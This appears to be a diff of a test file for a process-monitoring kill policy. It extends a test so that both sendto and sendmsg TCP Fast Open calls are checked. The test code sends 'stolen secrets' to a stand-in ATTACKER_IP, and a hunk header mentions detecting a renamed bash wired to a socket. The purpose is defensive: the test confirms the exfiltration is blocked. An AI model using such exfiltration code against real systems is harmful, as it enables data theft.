@@ -218,11 +218,14 @@ def test_renamed_bash_is_killed_when_stdin_and_stdout_are_the_socket(watched, la
     assert len(killed) == 1 and killed[0].newfd == 1 and killed[0].comm == "kworker"
 
 
-def test_tcp_fast_open_to_a_blocked_port_is_a_blocked_connect(watched, py, lab):
-    """sendto(MSG_FASTOPEN) connects with no connect(): still a connect to the kill policy."""
+@pytest.mark.parametrize("call", ["sendto", "sendmsg"])
+def test_tcp_fast_open_to_a_blocked_port_is_a_blocked_connect(watched, py, lab, call):
+    """sendto/sendmsg(MSG_FASTOPEN) connect with no connect(): still a connect to the kill policy."""
     attacker = Attacker(lab, "listen", ATTACKER_IP, 4451, seconds=3)
     code = (f"import socket\ns = socket.socket()\n"
-            f"s.sendto(b'stolen secrets', socket.MSG_FASTOPEN, ({ATTACKER_IP!r}, 4451))\n")
+            + ("s.sendto(b'stolen secrets', socket.MSG_FASTOPEN" if call == "sendto" else
+               "s.sendmsg([b'stolen secrets'], [], socket.MSG_FASTOPEN")
+            + f", ({ATTACKER_IP!r}, 4451))\n")
     run = watched.run(in_container(lab, [py, "-c", code]), kill_policy={"ports": [4451]})
     assert attacker.result()["received"] == 0
     assert run.returncode == -9
